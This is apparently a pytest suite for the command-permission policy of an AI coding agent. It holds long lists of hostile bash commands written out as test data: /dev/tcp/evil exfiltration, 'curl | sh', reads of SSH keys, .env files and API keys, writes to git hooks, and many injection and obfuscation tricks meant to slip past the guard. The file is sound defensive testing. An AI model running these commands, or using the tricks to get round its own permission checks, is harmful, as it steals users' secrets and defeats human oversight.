"""Command lines: what is allowed runs nothing else, and what is denied never runs, held against a real bash."""

import shutil
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sagent.lib.names import lies_in
from sagent.messages import ToolCall
from sagent.policy import Allow, Ask, Deny, Verdict, commands, shell
from sagent.policy.permissions import Mode, PermissionPolicy
from sagent.policy.rules import Rules, is_inside, rules_for
from sagent.tool import Effect, Workspace
from tests.depth import WHOLE, deep, later
from tests.policy.real_bash import run_bash


@pytest.fixture
def tree(tmp_path: Path) -> Workspace:
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    (tmp_path / "tree" / "src").mkdir(parents=True)
    return Workspace(tmp_path / "tree")


def judge(
    tree: Workspace, command: str, mode: Mode = "edit", allow: tuple[str, ...] = (), deny: tuple[str, ...] = ()
) -> Verdict:
    policy = PermissionPolicy(mode, Rules.parse(allow, deny), home=tree.roots[0].parent / "home")
    judging = policy.before_tool(ToolCall("1", "Bash"), Effect("execute", command=command), tree)
    try:
        judging.send(None)
    except StopIteration as stopped:
        return stopped.value
    raise AssertionError("the policy waits for something")


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git --no-pager log --oneline -5 | head -3",
        "ls -la src && cat src/*.py 2>/dev/null",
        "grep -rn 'a; rm -rf /' src | sort | uniq -c",
        "sed -n '10,20p' a.py",
        "cd src; pwd\nls",
        "find . -name '*.py' -not -path './x/*'",
        "rg --files | wc -l",
        "# only a comment",
        "if [ -f a ]; then cat a; else echo no; fi",
        "for f in a b; do true; done",
        "(git diff --stat; git branch --show-current) 2>&1",
        "bash -c 'git status && ls'",
        "cat <<'EOF' 2>&1 | tail -3; ls\n`evil` $(evil)\nEOF",
        "[ 3 -gt -1 ] && ls",
        "CI=1 timeout 5 nice -n 3 git diff HEAD~1",
        "cat <<'EOF' | wc -c\n$(rm -rf /)\nEOF",
        "python3 --version",
        "git show HEAD:src/a.py; git show stash@{0}",
        "! test -d x",
    ],
)
def test_harmless_commands_are_never_asked(tree, command):
    for mode in ("plan", "ask", "edit"):
        assert judge(tree, command, mode) == Allow()


@pytest.mark.parametrize(
    "command",
    [
        "git -c core.pager='sh -c evil' status",
        "git -c alias.x=!evil x",
        "git --exec-path=/tmp/x status",
        "git -p log",
        "git log --output=f",
        "git diff --outp=f",
        "git grep -Oevil x",
        "git branch new",
        "git status; evil",
        "GIT_PAGER=evil git log",
        "LD_PRELOAD=./x.so ls",
        "PATH=.:$PATH ls",
        "for PATH in /tmp/x; do ls; done",
        "env -S 'evil x'",
        "env PATH=/tmp/x ls",
        "find . -exec evil {} +",
        "find . -delete",
        "find . -fprintf out x",
        "sort -o out in",
        "sort --out out in",
        "sort -uo out in",
        "sort --compress-prog=evil in",
        "sort *",
        "rg --pre evil x",
        "rg --pr=evil x",
        "sed -i s/a/b/ f",
        "sed -n '1e evil' f",
        "sed -n '1w out' f",
        "awk 'BEGIN{system(\"evil\")}'",
        "tee out < in",
        "xargs cat",
        "uniq in out",
        "date -s 2020-01-01",
        "tree -o out",
        "printf -v PATH x",
        "test -v 'a[$(evil)]'",
        "echo $(evil)",
        "echo `evil`",
        "echo ${x:-$(evil)}",
        "cat <(evil)",
        "cat <<EOF\n$(evil)\nEOF",
        "cat <<'EOF' 2>&1 | evil\nEOF",
        "cat <<EOF 2>&1 | tail\n$(evil)\nEOF",
        "true ${PATH:=evil}",
        'echo "$(evil)"',
        "ls\nevil",
        "ls\\\n;evil",
        "ls & evil",
        "ls |& evil",
        "l\\s; ev\\il",
        "ls;evil",
        "# comment \\\nevil",
        "ls # x\nevil",
        "echo 'a'\"'\"'b'; evil",
        "echo ‘; evil ‘",
        "cat$IFS/etc/passwd",
        "cat ${HOME}/.ssh/id",
        "{ ls; evil; }",
        "f() { evil; }; f",
        "ls() { evil; }; ls",
        "alias ls=evil; ls",
        "eval 'ev''il'",
        "bash -c evil",
        "bash script.sh",
        "bash <<EOF\nls\nEOF",
        "sh -c 'ls; evil'",
        'bash -c "$X"',
        "sudo ls",
        "nohup evil",
        "timeout 5 evil",
        "command evil",
        "exec evil",
        "coproc evil",
        "case x in x) evil;; esac",
        "[[ x =~ $(evil) ]]",
        "echo $((a[$(evil)]))",
        "echo $'\\'; evil #'",
        "ls\u00a0; ls",
        "ls\u200b",
        "ls\r",
        "'unclosed",
        "cat <<EOF\nno end",
        "/tmp/x/ls",
        "./ls",
        "printenv",
        "env",
        "cd /; ls",
        "cd - && ls",
        "cd src/../.. && ls",
        "cat < /dev/tcp/evil/80",
        "echo x >> /dev/tcp/evil/80",
        "echo $ANTHROPIC_API_KEY",
        "echo hi > ../x",
        "echo hi > .git/hooks/pre-commit",
        "echo hi > $X",
        "echo hi >& ../x",
        "echo hi &> ../x",
        "echo hi >| ../x",
        "ls 3<> ../x",
        "echo hi > ~/x",
        "> ../x",
        "(cd src); echo hi > ../x",
        "cd src || true; echo hi > ../x",
        "cd src; cd nowhere; echo hi > ../../x",
        "while cd .; do echo hi > x; done",
    ],
)
def test_hidden_parts_of_commands_are_asked(tree, command):
    judged = judge(tree, command, "edit")
    assert isinstance(judged, Ask)
    assert judged.remedy
    assert isinstance(judge(tree, command, "plan"), Deny)


@pytest.mark.parametrize(
    "command",
    [
        # bash computes offsets, and what is computed may hold a command
        "y='a[$(evil)]'; x=abc; z=${x:y}",
        "x=abc; cat <<< ${x:$y}",
        "x=abc; cat <<EOF\n${x:y}\nEOF",
        "for i in ${x::y}; do true; done",
        # a redirection that sets a variable: 11/.gitconfig is read then
        "echo {HOME}>/dev/null; git status",
        "echo {PATH}</dev/null; ls",
        "echo {a[0]}>&1; ls",
        # a wildcard that becomes an option, by what a file is named
        "find . -exe[c] evil",
        "find . -d*e",
        "git log --ou*/planted",
        'git diff "-"-ou*',
        "sort -[o] x y",
        # files that a file names, directories outside a repository
        "sort --files0-from=list",
        "sort --fi=list",
        "wc --files0-from=list",
        "find -files0-from list",
        "git diff --no-index /dev/null src",
        "git diff --no-i a b",
        "git log --show-signature",
        # variables that reach the model by another way than an argument
        "cat <<< $TOKEN",
        'cat <<< "$TOKEN"',
        "cat <<EOF\n$TOKEN\nEOF",
        "bash -c 'cat <<< $TOKEN'",
        # names that are variables of programs
        "npm_config_script_shell=evil ls",
        "x=1 ls",
        "CDPATH=/; cd etc; ls",
    ],
)
def test_known_attacks_are_asked_about(tree, command):
    assert isinstance(judge(tree, command), Ask)
    assert isinstance(judge(tree, command, "plan"), Deny)


def test_wildcards_judged_by_any_meaning(tree):
    (tree.cwd / ".env").write_text("KEY=1")
    for command in (
        "cat .[^x]nv",
        "cat .[[:lower:]]nv",
        "cat .[!x]nv",
        "cat .[]e]nv",
        "cat .e?v",
        "head -n1 -- .en[v]",
    ):
        assert isinstance(judge(tree, command), Ask), command
    assert judge(tree, "cat src/[a-z]*.py [[:digit:]]*.txt") == Allow()


def test_quoted_tilde_is_a_name(tree):
    (tree.cwd / "~").symlink_to(tree.cwd.parent / "home" / ".ssh")
    for command in ("cat '~/id'", 'cat "~"/id', "cat \\~/id", "cat ~/.ssh/id", "cat --x=~/.ssh/id"):
        assert isinstance(judge(tree, command), Ask), command
    assert isinstance(judge(tree, "echo x > '~/f'"), Ask)


def test_wildcard_lookup_is_bounded(tree, monkeypatch: pytest.MonkeyPatch):
    for name in ("a.py", "b.py"):
        (tree.cwd / "src" / name).write_text("")
    assert judge(tree, "cat src/*.py") == judge(tree, "cat */a.p[xy]") == Allow()
    monkeypatch.setattr(commands, "_MAX_ENTRIES", 2)
    for command in ("cat */*/*/*.none", "cat /*/*/*/*/*/*/*.none", f"echo {'[' * 30_000}"):
        asked = judge(tree, command)
        assert isinstance(asked, Ask)
        assert "names too many files to be judged" in asked.reason


@pytest.mark.costly
@pytest.mark.parametrize("line", [")" * 40_000, "a|" * 40_000, "echo " + "()" * 40_000])
def test_slow_to_read_line_is_asked_about(tree, line: str, monkeypatch: pytest.MonkeyPatch):
    if not WHOLE:
        monkeypatch.setattr(shell, "_PARSE_TIMEOUT_SECONDS", 0.02)
    asked = judge(tree, line)
    assert isinstance(asked, Ask)
    assert "it takes too long to read" in asked.reason
    assert isinstance(judge(tree, line, "full", deny=("Bash(rm:*)",)), Ask)
    assert isinstance(judge(tree, line, "full", deny=("Read(secrets/**)",)), Ask)


def test_cd_follows_shell_and_links(tree):
    (tree.cwd / "src" / "deep").mkdir()
    (tree.cwd / "near").symlink_to(tree.cwd / "src" / "deep")
    (tree.cwd / "far").symlink_to(tree.cwd.parent / "home")
    assert judge(tree, "cd src/..; ls") == Allow()
    for command in ("cd near/../..; ls", "cd far; ls", "cd far/..; ls"):
        assert isinstance(judge(tree, command), Ask), command


def test_rule_covers_no_unnamed_write_option(tree):
    rules = ("Bash(git log:*)", "Bash(find:*)", "Bash(sort:*)")
    for command in ("git log -5 --stat", "find . -name x", "sort -n a"):
        assert judge(tree, command, allow=rules) == Allow(), command
    for command in ("git log --output=f", "git log --outp f", "find . -delete", "find . -exec evil +", "sort -o f a"):
        assert isinstance(judge(tree, command, allow=rules), Ask), command
    assert judge(tree, "git log --output=f", allow=("Bash(git log --output=f)",)) == Allow()
    assert judge(tree, 'git commit -m "$(cat a)"', allow=("Bash(git commit:*)",)) == Allow()
    for command, rule in (
        ("x=--output=f; git log $x", "git log:*"), ("git log {--output=f,}", "git log:*"), ("git log -*", "git log:*"),
        ("find . $(echo -delete)", "find:*"), ("git push --receive-pack=./evil x", "git push:*"),
        ("/usr/bin/git log --output=f", "/usr/bin/git log:*"), ("LANG=C git log --output=f", "LANG=C git log:*"),
        ("fd -x evil", "fd:*"),
    ):  # fmt: skip
        assert isinstance(judge(tree, command, allow=(f"Bash({rule})",)), Ask), command
    denied = judge(tree, "git log --output=locked/f", "full", deny=("Edit(locked/**)",))
    assert isinstance(denied, Deny)


def test_path_rules_cover_wildcards_and_commits(tree):
    (tree.cwd / "secrets").mkdir()
    (tree.cwd / "secrets" / "k").write_text("x")
    rules = ("Read(secrets/**)", "Edit(secrets/**)")
    for command in (
        "cat secret*/k", "cat s?crets/k", "cat secre[st]s/k", "cat secret[[:alpha:]]/k", "cat */k",
        "git show HEAD:secrets/k", "git show HEAD:./secrets/k", "cat x > secret*/k",
    ):  # fmt: skip
        assert isinstance(judge(tree, command, "full", deny=rules), Deny), command
    for command in (
        "rm -rf .", "rm -r $X", "sudo rm -Rf ..", "git clean -fdx", "git -C . checkout .", "git stash",
        "mv secret* x", "chmod -R 777 .", "find . -delete", "find -delete", "xargs rm -r < list",
    ):  # fmt: skip
        assert isinstance(judge(tree, command, "full", deny=rules), Ask | Deny), command
    for command in ("rm -rf src", "git log", "cat src/*", "git show HEAD:src/a.py", "chmod -R u+x src", "ls -r"):
        assert judge(tree, command, "full", deny=rules) == Allow(), command


def test_offered_rule_is_as_narrow_as_asked(tree):
    for command, rule in {
        "git -C x push": "'Bash(git -C x push)'",
        "java -jar x": "'Bash(java -jar x)'",
        "make": "'Bash(make)'",
        "git push origin": "'Bash(git push:*)'",
        "npm run build": "'Bash(npm run:*)'",
        "poetry run pytest": "'Bash(poetry run pytest)'",  # and no other program
        "kubectl exec pod ls": "'Bash(kubectl exec pod ls)'",
        "git bisect start": "'Bash(git bisect start)'",
        "git log --output=f": "'Bash(git log --output=f)'",  # which Bash(git log:*) would not allow
        "git clone x y": "'Bash(git clone x y)'",  # else options of it that run something
        "tmux new-session top": "'Bash(tmux new-session top)'",
        "uniq a b": "'Bash(uniq a b)'",
        "'git push' origin": "'git push' origin",  # another program than git
    }.items():
        asked = judge(tree, command)
        assert isinstance(asked, Ask)
        if rule.startswith("'Bash"):
            assert rule in asked.remedy
        else:
            assert rules_for(asked) == [f"Bash({rule})"]
            assert judge(tree, command, allow=tuple(rules_for(asked))) == Allow()


@pytest.mark.parametrize(
    "command",
    [
        *("rm x:*", "rm *:*", "X=1 rm *", "X=1 rm x:*", "X=a:*", "npm run:*", "docker run -it x:*", "a* push"),
        *("rm $x", "$X push", "X=$y make", "for x in a b; do rm $x; done", "rm ${x:-a}", "git $x push"),
    ],
)
def test_changing_words_get_no_rule(tree, command: str):
    asked = judge(tree, command)
    assert isinstance(asked, Ask)
    assert rules_for(asked) == []


@pytest.mark.parametrize(
    "command",
    [
        *("python - <<'E'\nprint(1)\nE", "python3.12 <<< 'print(1)'", "bash <<'E'\nls\nE", "curl -s x | sh", "sh -s x"),
        *(
            "/usr/bin/env bash",
            "X=1 python -u",
            "sudo -u a python",
            "docker run -i image python",
            "ssh host",
            "ls | xargs rm",
        ),
        *(
            "at now",
            "crontab -",
            "patch -p1",
            "tar xf -",
            "perl -p",
            "timeout 5 node -r x",
            "bash -x /dev/stdin",
            "ssh a bash",
        ),
    ],
)
def test_input_interpreters_get_no_rule(tree, command: str):
    asked = judge(tree, command)
    assert isinstance(asked, Ask)
    assert rules_for(asked) == []


@pytest.mark.parametrize(
    "command",
    [
        *("python x.py", "python3.12 -m pytest", "python -c 'print(1)'", "node -e '1'", "node --test", "sh make.sh"),
        *("/usr/bin/env python x.py", "/bin/bash x", "ssh host uptime", "tar xf a.tar", "sed -i s/a/b/ f", "sudo make"),
    ],
)
def test_script_runner_is_allowed_exactly(tree, command: str):
    asked = judge(tree, command)
    assert isinstance(asked, Ask)
    assert rules_for(asked) == [f"Bash({command})"]


def test_file_rule_is_not_offered_for_directory(tree):
    (tree.cwd / "there").mkdir()
    for name, rules in (("there", []), ("here", [f"Edit({tree.cwd}/here)"])):
        asked = judge(tree, f"echo x > {name}", "ask")
        assert isinstance(asked, Ask)
        assert rules_for(asked) == rules


@pytest.mark.parametrize(
    ("one", "other"), [("rm -r '~'", "rm -r ~"), ("touch '~/x'", "touch ~/x"), ("'A=1' make", "A=1 make")]
)
def test_quoted_rule_means_no_wildcard(tree, one: str, other: str):
    for command, another in ((one, other), (other, one)):
        assert judge(tree, command, allow=(f"Bash({command})",)) == Allow()
        assert isinstance(judge(tree, another, allow=(f"Bash({command})",)), Ask)


@given(
    st.lists(
        st.sampled_from(["make", "git push origin", "X=1 npm publish", "ls", "cat .env", "echo hi > ../x", "cd src"])
        | st.sampled_from(["npm run a > ../y 2> ../z", "rm -rf src", "rm *.py", "echo hi > $X", "cargo test --all"]),
        min_size=1,
        max_size=4,
    ),
    st.sampled_from([" && ", "; ", " | "]),
    st.sampled_from(["ask", "edit"]),
)
@settings(max_examples=deep(15, 50))
def test_offered_rules_allow_all_or_none(parts: list[str], joint: str, mode: Mode):
    with TemporaryDirectory() as directory:
        tree = Workspace(Path(directory, "tree"))
        (tree.cwd / "src").mkdir(parents=True)
        (tree.cwd / ".env").write_text("K=1")
        command = joint.join(parts)
        asked = judge(tree, command, mode)
        if isinstance(asked, Ask) and (rules := rules_for(asked)):
            assert judge(tree, command, mode, allow=tuple(rules)) == Allow()
            for rule in rules:  # and no more than that
                fewer = tuple(each for each in rules if each != rule)
                assert isinstance(judge(tree, command, mode, allow=fewer), Ask)


def test_each_part_of_command_gets_a_rule(tree):
    asked = judge(tree, "make deploy && npm publish > ../log; ls")
    assert isinstance(asked, Ask)
    assert rules_for(asked) == ["Bash(make deploy:*)", f"Edit({tree.cwd.parent}/log)", "Bash(npm publish:*)"]
    assert "`make deploy`" in asked.reason and "2 more parts" in asked.reason
    for lasting in ("make deploy && rm *.py", "rm *.py && make deploy"):  # for which no rule can be written
        asked = judge(tree, lasting)
        assert isinstance(asked, Ask)
        assert not rules_for(asked)
        assert "rm *.py" in asked.reason


def test_redirections_are_judged_as_writes(tree):
    (tree.cwd / "out").symlink_to("..")
    assert judge(tree, "git diff > src/change.diff 2>&1") == Allow()
    assert judge(tree, "cd src && echo hi > here.txt") == Allow()
    assert isinstance(judge(tree, "git diff > src/change.diff", "ask"), Ask)
    assert isinstance(judge(tree, "git diff > out/change.diff"), Ask)
    assert isinstance(judge(tree, "make > /etc/x", allow=("Bash(make:*)",)), Ask)
    assert judge(tree, "make > log", allow=("Bash(make:*)",)) == Allow()
    assert judge(tree, "git diff > src/x", "ask", allow=("Edit(src/**)",)) == Allow()


@pytest.mark.parametrize(
    "command",
    [
        "cat ~/.ssh/id_ed25519",
        "cat {home}/.ssh/../.ssh/id",
        "cat {home}/.s*/id_ed25519",
        "grep -f{home}/.ssh/id_ed25519 x",
        "grep -r KEY ~",
        "rg --hidden KEY {home}",
        "head -c 100 < ~/.ssh/id_ed25519",
        "cat .env",
        "cat .e*",
        "cat link/id_ed25519",
        "cd .. && cat home/.ssh/id_ed25519",
        "cat /proc/self/environ",
        "cat /proc/*/environ",
    ],
)
def test_commands_reading_keys_are_asked(tree, command):
    home = tree.cwd.parent / "home"
    (home / ".ssh" / "id_ed25519").write_text("key")
    (tree.cwd / ".env").write_text("KEY=1")
    (tree.cwd / "link").symlink_to(home / ".ssh")
    assert isinstance(judge(tree, command.format(home=home)), Ask)


def test_git_in_planted_repository_is_asked(tree):
    (tree.cwd / ".git").mkdir()
    for name in ("objects", "refs"):
        (tree.cwd / "planted" / name).mkdir(parents=True)
    (tree.cwd / "planted" / "HEAD").write_text("ref: refs/heads/main\n")
    assert judge(tree, "git status") == Allow()
    assert judge(tree, "cd src && git status") == Allow()
    assert isinstance(judge(tree, "cd planted && git status"), Ask)


@pytest.mark.parametrize(
    ("rule", "accepted", "refused"),
    [
        (
            "Bash(npm test:*)",
            ["npm test", "npm test -- -x 'a b'", "CI=1 npm test", "timeout 60 npm test | tail -5", "npm 'test' $X",
             "bash -lc 'cd src && npm test'", "npm test && npm test", "nohup npm test &", "npm te\\st",
             "npm test {a,b}", "npm test ${x:=y}", "npm test <<EOF 2>&1 | tail\nx\nEOF"],
            ["npm", "npm tests", "npm run test", "./npm test", "npm $X test", "$X npm test", "npm test; npm publish",
             "npm test $(npm publish)", "sudo npm test", "PATH=x npm test", "npm test | sh", "npm test > ../x",
             "npm test ${PATH:=x}", "npm test \"${BASH_ENV=x}\"", "npm test ${x:=$(evil)}"],
        ),
        ("Bash(npm test)", ["npm test", "npm  test"], ["npm test -x", "npm test $X"]),
        ("Bash(npm run test*)", ["npm run test", "npm run test:unit --x"], ["npm run build", "npm run"]),
        ("Bash(echo $HOME)", ["echo $HOME", "echo ok"], ["echo $PATH", "echo \"$HOME\""]),
        ("Bash(CC=gcc make:*)", ["CC=gcc make all"], ["CC=evil make all", "make all"]),
        ("Bash(sudo apt install:*)", ["sudo apt install x"], ["sudo apt remove x", "sudo -u x apt install"]),
        ("Bash(:*)", ["make x; evil", "$X", "case x in x) evil;; esac"], []),
        ("Bash", ["make x; evil > /etc/x"], []),
    ],
)  # fmt: skip
def test_allow_rule_allows_its_command_only(tree, rule, accepted, refused):
    for command in accepted:
        assert judge(tree, command, allow=(rule,)) == Allow(), command
        assert isinstance(judge(tree, command, "plan", allow=(rule,)), Deny) or rule.startswith("Bash(echo"), command
    for command in refused:
        assert isinstance(judge(tree, command, allow=(rule,)), Ask), command


@pytest.mark.parametrize(
    "command",
    [
        "git push", "git push --force origin", "ls && git push", "ls; (git push)", "x=1 git push", "echo $(git push)",
        "echo `git push`", "echo \"${x:-$(git push)}\"", "bash -c 'git push'", "sh -c \"ls; git push\"",
        "eval git push",
        "sudo -u root git push", "sudo bash -c 'sudo git push'", "timeout 5 git push", "env X=1 git push",
        "nohup git push&",
        "xargs git push", "find . -exec git push \\;", "/usr/bin/git push", "g'i't \"push\"", "\\git push",
        "command git push",
        "git -C x push", "git --no-pager push", "git $X", "git p*", "$G push", "`echo git` push", "$(echo git) push",
        "{git,push}", "gi? push", "if true; then git push; fi", "while git push; do :; done", "f() { git push; }; f",
        "case x in x) git push;; esac", "cat <<EOF\n$(git push)\nEOF", "bash <<'EOF'\ngit push\nEOF",
        "echo 'git push' | sh",
        "python3 -c 'import os; os.system(\"git push\")'", "! git push", "time git push", "trap 'git push' EXIT",
        "git pu\\\nsh", "ls\ngit push", "ls # x\ngit push", "git push > /dev/null", "X=git; $X push",
        "su -c 'git push'",
        "cat <(git push)", "watch -n1 'git push'", "env -S 'git push'", "[[ x ]] && git push", "echo $((1)); git push",
        "'unclosed", "git -c alias.x=push x", "parallel git push ::: a", "git\tpush", "a=(1); git push", "git $'push'",
        "bash -c \"$X\"", "sh -c \"echo $X\"", "bash -o pipefail -c $X", "sudo -u $Y make", "xargs -n 1 $X",
    ],
)  # fmt: skip
def test_denied_command_is_never_allowed(tree, command):
    for mode in ("plan", "ask", "edit", "full"):
        judged = judge(tree, command, mode, allow=("Bash",), deny=("Bash(git push:*)",))
        assert not isinstance(judged, Allow)


def test_deny_rules_leave_the_rest_alone(tree):
    rules = ("Bash(rm:*)", "Bash(git push:*)")
    for command in ("git commit -m 'rm push'", "ls rm.txt", "git log", "timeout 9 npm t $X", "echo 'rm x'; [ -f x ]"):
        assert judge(tree, command, "full", deny=rules) == Allow(), command


def test_path_rules_cover_commands_paths(tree):
    rules = ("Read(private/**)", "Edit(locked/**)")
    for command in (
        "cat private/a",
        "cat < private/a",
        "cp ./src/../private/a x",
        "x --file=private/a",
        "cd private; cat a",
        "x=private/a; cat $x",
        "su -c 'cat private/a'",
    ):
        assert isinstance(judge(tree, command, "full", deny=rules), Deny), command
    for command in ("echo > locked/a", "rm locked/a", "sudo tee locked/a", "sed -i s/a/b/ locked/a"):
        assert isinstance(judge(tree, command, "full", deny=rules), Deny), command
    assert judge(tree, "cat locked/a", "full", deny=rules) == Allow()


def test_variables_hide_no_command(tree):
    assert isinstance(judge(tree, "make all", "full", deny=("Bash(CC=gcc make:*)",)), Deny)
    assert isinstance(judge(tree, "CC=x make all", "full", deny=("Bash(make:*)",)), Deny)


@later
def test_huge_command_is_judged_quickly(tree):
    size = deep(3_000, 5_000)
    deep_ones = ("(" * size, "$(" * size, "`" * (size + 1), '"$(' * (size * 3 // 5))
    for command in (*deep_ones, "a " * (10 * size), "sudo " * (4 * size)):
        assert not isinstance(judge(tree, command, "full", deny=("Bash(rm:*)",)), Deny)
        assert isinstance(judge(tree, command), Ask)


ATOMS = [
    "okay", "evil", "evil", " ", " ", "\n", ";", "&", "|", "&&", "||", "(", ")", "{ ", " }", "$", "`", "'", '"',
    "\\", "\\\n",
    "#", "<", ">", "<<", "&>", "$(", "${", "$((", "$'", "<(", "=", "x=", "X=evil ", "$x", "EOF", "\nEOF\n",
    "<<EOF", "<<'EOF'",
    "if ", "then ", "fi", "do ", "done", "for x in evil;", "! ", "case x in x) ", "esac", "eval ", "bash -c ",
    "timeout 5 ",
    "env ", "time ", "command ", "exec ", "echo ", "cd . ;", "true;", "*", "?", "[[ ", " ]]", "2>&1", "ev", "il",
    "''", "$@",
    "${x:-evil}", "{evil,x}", "f()", "trap evil EXIT;", "xargs ", "@",
]  # fmt: skip


@pytest.fixture(scope="module")
def arena(tmp_path_factory) -> Path:
    """A place with two programs that leave a trace, and what may run them."""
    base = tmp_path_factory.mktemp("arena")
    (base / "bin").mkdir()
    (base / "tree").mkdir()
    for name in ("okay", "evil"):
        (base / "bin" / name).write_text(f"#!/bin/sh\necho {name} >> {base}/trace\n")
        (base / "bin" / name).chmod(0o755)
    for name in ("bash", "sh", "timeout", "env", "xargs"):
        if found := shutil.which(name):
            (base / "bin" / name).symlink_to(found)
    return base


@later
@settings(max_examples=deep(400, 1000), deadline=None)
@given(atoms=st.lists(st.sampled_from(ATOMS), min_size=1, max_size=12))
def test_allowed_scripts_run_only_the_allowed(atoms, arena):
    script = "".join(atoms)
    tree = Workspace(arena / "tree")
    allowed = judge(tree, script, "ask", allow=("Bash(okay:*)",)) == Allow()
    undenied = judge(tree, script, "full", deny=("Bash(evil:*)",)) == Allow()
    if not (allowed or undenied) or ("ev" not in script and ">" not in script):
        return
    trace = arena / "trace"
    trace.unlink(missing_ok=True)
    run_bash(script, arena / "tree", {"PATH": str(arena / "bin")})
    made = list((arena / "tree").iterdir())
    for path in made:
        path.unlink()
    assert "evil" not in (trace.read_text() if trace.exists() else "")
    assert not (allowed and made)


PATHS = st.lists(st.sampled_from(["a", "b", ".ssh", "a.b"]), max_size=4).map(lambda names: "/" + "/".join(names))


@given(PATHS, st.frozensets(PATHS, max_size=5))
def test_path_lies_in_any_of_many_roots(path: str, roots: frozenset[str]) -> None:
    assert lies_in(path, roots) == any(is_inside(path, root) for root in roots)


@later
def test_command_of_too_many_words_is_asked(tree: Workspace) -> None:
    words = " ".join(f"word{number}" for number in range(6_000))
    for mode in ("plan", "ask", "edit"):
        verdict = judge(tree, f"echo {words}", mode)
        assert isinstance(verdict, Ask | Deny) and "more than 5,000 words" in verdict.reason
    assert isinstance(judge(tree, f"echo {words}; cat ~/.ssh/id_rsa", "edit", deny=("Read(~/.ssh/**)",)), Ask | Deny)
    assert isinstance(judge(tree, f"echo {words[:40_000]}", "ask"), Allow)
